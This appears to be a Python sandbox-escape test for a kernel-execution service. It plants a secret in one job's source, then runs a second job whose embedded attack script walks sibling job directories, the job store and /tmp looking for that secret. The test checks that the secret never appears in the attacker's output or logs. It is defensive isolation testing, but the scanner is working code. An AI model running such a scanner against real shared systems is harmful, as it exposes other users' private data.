"""Escape: read another job's source (someone else's kernel, their secret).

Arranged: job A is submitted just before (``wait=false``) with a comment
``# SECRET-<uuid>`` in its source, and sleeps at import so it is still running.
Tries: job B scans its job root and siblings, the directory above (the job store's SQLite
file holds every request), the working directory and ``/tmp`` for ``SECRET-<uuid>`` strings
and puts what it finds in its error message and its stdout.
Caught by: the job root and the store's directory hidden from the worker, a private
``/tmp``. The secret must appear nowhere in B's response, B's job record, or B's log.
"""

import time
import uuid
from typing import Any

import httpx

from tests.adversarial.corpus import (
    AttackRun,
    Escape,
    Job,
    Target,
    escape_job,
    evaluate,
    io,
    tensor,
    torch_kernel,
)

VICTIM = """
# SECRET-@SECRET@  (this comment is the victim's private data)
import time

time.sleep(3)
print("victim running: SECRET-@SECRET@", flush=True)


class Model(torch.nn.Module):
    def forward(self, x):
        return x + 1
"""

ATTACK = r"""
import re
import time

PATTERN = re.compile(rb"SECRET-[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
MAX_BYTES = 8 << 20


def _files(top, depth):
    top = Path(top)
    try:
        entries = list(top.iterdir())
    except OSError:
        return
    for entry in entries:
        try:
            if entry.is_symlink():
                continue
            if entry.is_dir():
                if depth > 0:
                    yield from _files(entry, depth - 1)
            elif entry.is_file():
                yield entry
        except OSError:
            continue


def attack():
    here = Path(__file__).resolve().parent
    tops = [(here.parent, 3), (here.parent.parent, 4), (Path.cwd(), 1), (Path("/tmp"), 6)]
    for name in ("JOB_DIR", "JOB_STORE_PATH"):
        if os.environ.get(name):
            tops.append((Path(os.environ[name]).parent, 4))
    found, scanned, denied = set(), 0, 0
    deadline = time.monotonic() + 20
    for top, depth in tops:
        for path in _files(top, depth):
            if time.monotonic() > deadline or scanned > 20000:
                break
            try:
                if path.stat().st_size > MAX_BYTES:
                    continue
                data = path.read_bytes()
            except OSError:
                denied += 1
                continue
            scanned += 1
            found.update(m.decode() for m in PATTERN.findall(data))
    return f"scanned {scanned} files ({denied} unreadable); found {sorted(found)}"
"""


def arrange(client: httpx.Client, target: Target) -> dict[str, str]:
    secret = str(uuid.uuid4())
    victim = evaluate(torch_kernel(VICTIM.replace("@SECRET@", secret), io(tensor("x", [1024], 1))),
                      trials=1)
    r = client.post(victim.route, params={"wait": "false"}, json=victim.body)
    assert r.status_code == 202, r.text
    return {"secret": secret, "victim": r.json()["job_id"]}


def attack(target: Target, state: Any) -> Job:
    return escape_job("read_other_jobs", ATTACK)


def verify(client: httpx.Client, target: Target, state: Any, run: AttackRun) -> list[str]:
    secret = state["secret"]
    breaches = []
    if secret in run.text:
        breaches.append(f"job B's response holds job A's secret: {run.text[-600:]}")
    try:
        job_b = run.json().get("job_id")
    except ValueError:
        job_b = None
    if job_b:
        for route in (f"/job/{job_b}", f"/job/{job_b}/log"):
            r = client.get(route)
            if r.status_code == 200 and secret in r.text:
                breaches.append(f"GET {route} holds job A's secret")
    _wait_finished(client, state["victim"])
    return breaches


def _wait_finished(client: httpx.Client, job_id: str, deadline_s: float = 120) -> None:
    deadline = time.monotonic() + deadline_s
    while time.monotonic() < deadline:
        state = client.get(f"/job/{job_id}").json().get("state")
        if state not in ("queued", "running"):
            return
        time.sleep(0.2)


CASE = Escape(
    name="read_other_jobs",
    technique="read_other_jobs",
    tries="scans the job root, store directory, cwd and /tmp for another job's secret",
    caught_by="job root and store hidden from the worker; private /tmp",
    arrange=arrange,
    attack=attack,
    verify=verify,
)
